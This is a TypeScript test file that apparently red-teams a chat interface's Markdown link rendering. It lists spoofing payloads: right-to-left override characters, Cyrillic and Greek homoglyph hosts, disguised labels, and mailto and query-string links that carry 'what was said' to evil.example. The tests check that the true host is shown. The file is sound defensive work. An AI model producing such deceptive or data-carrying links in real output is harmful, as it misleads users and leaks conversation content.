import { cleanup, render } from '@testing-library/react'
import { type LinkUse, LinkUseContext } from 'sdk/ui/markdown/linkUse.ts'
import { Markdown } from 'sdk/ui/markdown/Markdown.tsx'
import { ViewTree } from '../../src/host/plugins/views/ViewTree.tsx'
import { type Attack, type AttackResult, heldUnless } from './attack.ts'

/* Links that lie about where they lead, or carry words out. */

interface Seen {
  readonly text: string
  readonly hrefs: readonly string[]
  readonly linked: readonly string[]
  readonly buttons: readonly string[]
}

function look(element: React.ReactElement): Seen {
  const page = render(element).container
  const anchors = [...page.querySelectorAll('a')]
  const seen = {
    text: page.textContent ?? '',
    hrefs: anchors.map(({ href }) => href),
    linked: anchors.map(({ textContent }) => textContent ?? ''),
    buttons: [...page.querySelectorAll('button')].map(({ textContent }) => textContent ?? ''),
  }
  cleanup()
  return seen
}

const inChat = (text: string) => look(<Markdown text={text} />)
const inView = (text: string, use: LinkUse = { kind: 'ask', by: '“Weather”' }) =>
  look(
    <LinkUseContext value={use}>
      <ViewTree node={{ kind: 'markdown', text }} send={() => {}} />
    </LinkUseContext>,
  )

const row = (id: string, tries: string, attack: () => AttackResult): Attack => ({ id, area: 'links', tries, attack })

const evil = (label: string) => `[${label}](https://evil.example/)`
const evilMail = (label: string) => `[${label}](mailto:eve@evil.example)`

/** The true host must be read, in the order it is written. */
const lies: readonly (readonly [id: string, tries: string, text: string, shown: string])[] = [
  ['override', 'turns the shown host round', evil('\u202Emoc.knab'), '(evil.example)'],
  ['isolate', 'opens an isolate it never closes', evil('bank.example \u2067'), '(evil.example)'],
  ['first-strong', 'opens a first-strong isolate', evil('\u2068bank'), '(evil.example)'],
  ['embedding', 'embeds the label from right to left', evil('\u202Bbank'), '(evil.example)'],
  ['before', 'turns the line round before the link', '\u202Ex [bank](https://evil.example/)', '(evil.example)'],
  ['mark', 'sets direction marks into the label', evil('bank\u200F.example\u061C'), '(evil.example)'],
  ['hebrew', 'begins the label in a script from right to left', evil('\u05D0\u05D1 bank.example'), '(evil.example)'],
  ['other', 'labels itself as another address', evil('https://bank.example/login'), '(evil.example)'],
  ['bare', 'labels itself as another host', evil('bank.example'), '(evil.example)'],
  ['wide', 'labels itself in wide letters', evil('ｂａｎｋ．ｅｘａｍｐｌｅ'), '(evil.example)'],
  ['dot', 'labels itself with another full stop', evil('bank。example'), '(evil.example)'],
  ['invisible', 'breaks the label by invisible letters', evil('ba\u200Bnk.exa\u00ADmple'), '(evil.example)'],
  ['own-homoglyph', 'labels itself with its host in other letters', evil('еvil.example'), '(evil.example)'],
  ['brackets', 'writes a host of its own in brackets', evil('bank (bank.example)'), '(evil.example)'],
  ['ip', 'labels itself as an address in numbers', evil('192.168.0.1'), '(evil.example)'],
  ['mail-as-web', 'labels a mail link as a page', evilMail('https://bank.example'), '(mail to eve@evil.example)'],
  ['mail', 'hides a mail address behind words', evilMail('write me'), '(mail to eve@evil.example)'],
  ['mail-other', 'labels a mail link as another address', evilMail('help@bank.example'), '(mail to eve@evil.example)'],
  ['cyrillic', 'writes its host in Cyrillic', '[bank](https://раураӏ.example/)', 'lookalike letters'],
  ['mixed', 'mixes scripts in its host', '[bank](https://pаypal.example/)', 'lookalike letters'],
  ['greek', 'writes its host with a Greek omicron', '[bank](https://gοοgle.example/)', 'lookalike letters'],
  ['mixed-bare', 'is written as its own look-alike', '[pаypal.example](https://pаypal.example/)', 'xn--'],
  ['mixed-auto', 'stands as a bare look-alike address', 'https://pаypal.example/', 'xn--'],
  [
    'mail-mixed',
    'mixes scripts in the host of a mail address',
    '[write](mailto:eve@pаypal.example)',
    'lookalike letters',
  ],
  [
    'subdomain',
    'begins its host like another',
    '[bank.example](https://bank.example.evil.example/)',
    '(bank.example.evil.example)',
  ],
  ...[
    ['entity', evil('google&#46;com')],
    ['entity-hex', evil('google&#x2e;com')],
    ['entity-letter', evil('goo&#103;le.c&#111;m')],
    ['escape', evil('google\\.com')],
    ['strong', evil('**google**.com')],
    ['emphasis', evil('google.*com*')],
    ['code', evil('`google`.com')],
    ['struck', evil('~~google~~.com')],
    ['nested', evil('***google**.c*om')],
    ['mail-escape', evil('help\\@bank')],
  ].map(
    ([how = '', text = '']) =>
      [`drawn-${how}`, `labels itself as another address by ${how}`, text, '(evil.example)'] as const,
  ),
  ['port', 'hides its port', '[bank](https://evil.example:8443/)', '(evil.example:8443)'],
]

const lying = lies.flatMap(([id, tries, text, shown]) =>
  (['chat', 'view'] as const).map((where) =>
    row(`${id}/${where}`, `${tries} in a ${where}`, () => {
      const seen = where === 'chat' ? inChat(text) : inView(text, { kind: 'none' })
      if (/[\u202A-\u202E\u2066-\u2069]/.test(seen.text)) return { broke: `signs of direction stand: ${seen.text}` }
      const bare = shown.replace(/[()]/g, '')
      return heldUnless(!seen.text.includes(bare) && `it reads ${seen.text}`)
    }),
  ),
)

/** A label that reads like an address is no link; only the true address is. */
const claiming = lies
  .filter(
    ([id]) =>
      id.startsWith('drawn-') ||
      ['other', 'bare', 'wide', 'dot', 'invisible', 'own-homoglyph', 'ip', 'mail-as-web', 'mail-other'].includes(id),
  )
  .map(([id, tries, text]) =>
    row(`${id}/label`, `${tries}, and is pressed there`, () =>
      heldUnless(inChat(text).linked.find((words) => !/^(mail to eve@)?evil\.example$/.test(words))),
    ),
  )

const prefills: readonly (readonly [string, string])[] = [
  ['a subject', 'mailto:eve@evil.example?subject=what%20was%20said'],
  ['a body', 'mailto:eve@evil.example?body=what%20was%20said'],
  ['a copy to others', 'mailto:eve@evil.example?cc=others@evil.example'],
  ['two addresses', 'mailto:eve@evil.example,others@evil.example'],
  ['an encoded question mark', 'mailto:eve@evil.example%3Fsubject=x'],
  ['an encoded second address', 'mailto:eve@evil.example%2Cothers@evil.example'],
  ['a line break', 'mailto:eve@evil.example%0ABcc:others@evil.example'],
  ['words for a name', `mailto:${'what-was-said-'.repeat(30)}@evil.example`],
  ['no address', 'mailto:?to=eve@evil.example&body=x'],
  ['a fragment', 'mailto:eve@evil.example#what-was-said'],
]
const mails = prefills.map(([what, href]) =>
  row(`mail: ${what}`, `sends mail with ${what}`, () =>
    heldUnless(inChat(`[write](${href})`).hrefs.find((found) => found !== 'mailto:eve@evil.example')),
  ),
)

const long = (length: number) => `https://evil.example/${'x'.repeat(length - 'https://evil.example/'.length)}`
const views: readonly Attack[] = [
  row('view-anchor', 'draws a link a middle click opens unasked', () =>
    heldUnless(inView('[rain](https://evil.example/?q=secret)').hrefs[0]),
  ),
  row('view-whole', 'hides what its address carries', () => {
    const { buttons } = inView('[rain](https://evil.example/?q=what+was+said)')
    return heldUnless(!buttons[0]?.includes('https://evil.example/?q=what+was+said') && `it reads ${buttons}`)
  }),
  row('view-long', 'carries 201 characters', () => heldUnless(inView(`[rain](${long(201)})`).buttons[0])),
  row('view-longest', 'is refused 200 characters', () =>
    heldUnless(inView(`[rain](${long(200)})`).buttons.length !== 1 && 'no link'),
  ),
  row('view-encoded', 'carries 100 letters that encoding makes 300', () =>
    heldUnless(inView(`[rain](https://evil.example/${'é'.repeat(100)})`).buttons[0]),
  ),
  row('view-bare', 'draws a bare address', () => heldUnless(inView('https://evil.example/x').hrefs[0])),
  row('view-mail', 'draws a mail link a click opens unasked', () =>
    heldUnless(inView('[write](mailto:eve@evil.example)').hrefs[0]),
  ),
  row('view-none', 'hears words, has no network, and draws a link', () => {
    const { hrefs, buttons } = inView('[rain](https://evil.example/?q=secret)', { kind: 'none' })
    return heldUnless([...hrefs, ...buttons][0])
  }),
]

export const attacks: readonly Attack[] = [...lying, ...claiming, ...mails, ...views]
